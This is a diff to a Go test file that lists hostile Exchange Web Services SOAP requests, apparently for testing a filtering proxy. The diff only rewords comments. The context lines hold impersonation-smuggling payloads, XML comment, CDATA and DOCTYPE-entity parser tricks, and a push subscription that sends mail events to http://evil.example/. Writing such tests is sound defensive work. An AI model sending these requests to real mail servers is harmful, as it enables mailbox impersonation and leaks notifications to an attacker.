@@ -72,7 +72,7 @@ func hostileRequests() []hostileRequest {
 		raw("header after the body", `<soap:Envelope `+ewstest.Namespaces+`><soap:Body>`+getFolder+`</soap:Body><soap:Header>`+forAlice+`</soap:Header></soap:Envelope>`),
 		raw("envelope in the operation", ewstest.Document(forAlice, "<m:GetFolder>"+plain[strings.Index(plain, "<soap:Envelope"):]+"</m:GetFolder>")),
 
-		// The document names two mailboxes to impersonate.
+		// The document names two mailboxes to impersonate, or one by its SID.
 		body("two impersonations", forAlice+forCEO),
 		body("two impersonations, the other order", forCEO+forAlice),
 		body("two ConnectingSIDs", `<t:ExchangeImpersonation>`+decoy+strings.ReplaceAll(decoy, alice, foreign)+`</t:ExchangeImpersonation>`),
@@ -81,7 +81,8 @@ func hostileRequests() []hostileRequest {
 		body("a SID alone", impersonating(`<t:SID>S-1-5-21-1-2-3-500</t:SID>`)),
 		body("nested impersonation", `<t:ExchangeImpersonation>`+decoy+forCEO+`</t:ExchangeImpersonation>`),
 
-		// The address is not simply the text between its start tag and the next tag.
+		// The address is not simply the text between its start tag and the next
+		// tag, or the elements have unusual prefixes.
 		body("comment in the address", impersonating(`<t:SmtpAddress>`+alice+`<!-- --></t:SmtpAddress>`)),
 		body("comment cuts the address", impersonating(`<t:SmtpAddress>`+alice+`<!-- -->.evil.example</t:SmtpAddress>`)),
 		body("address in CDATA", impersonating(`<t:SmtpAddress><![CDATA[`+foreign+`]]></t:SmtpAddress>`)),
@@ -107,7 +108,8 @@ func hostileRequests() []hostileRequest {
 		operation("ExecuteDiagnosticMethod", `<m:ExecuteDiagnosticMethod><m:Verb>ClearCache</m:Verb></m:ExecuteDiagnosticMethod>`),
 		operation("push subscription", `<m:Subscribe><m:PushSubscriptionRequest SubscribeToAllFolders="true"><t:EventTypes><t:EventType>NewMailEvent</t:EventType></t:EventTypes><t:StatusFrequency>1</t:StatusFrequency><t:URL>http://evil.example/</t:URL></m:PushSubscriptionRequest></m:Subscribe>`),
 
-		// Documents in which two readers find different values.
+		// Malformed documents, and documents in which two readers may find
+		// different values.
 		raw("entity from a DOCTYPE", `<!DOCTYPE s [<!ENTITY a "`+foreign+`">]>`+strings.Replace(plain[strings.Index(plain, "<soap:Envelope"):], foreign, "&a;", 1)),
 		raw("DOCTYPE", `<!DOCTYPE s>`+ewstest.Document(forAlice, getFolder)[len(ewstest.Declaration):]),
 		raw("processing instruction", strings.Replace(ewstest.Document(forAlice, getFolder), "<soap:Envelope", "<?x y?><soap:Envelope", 1)),
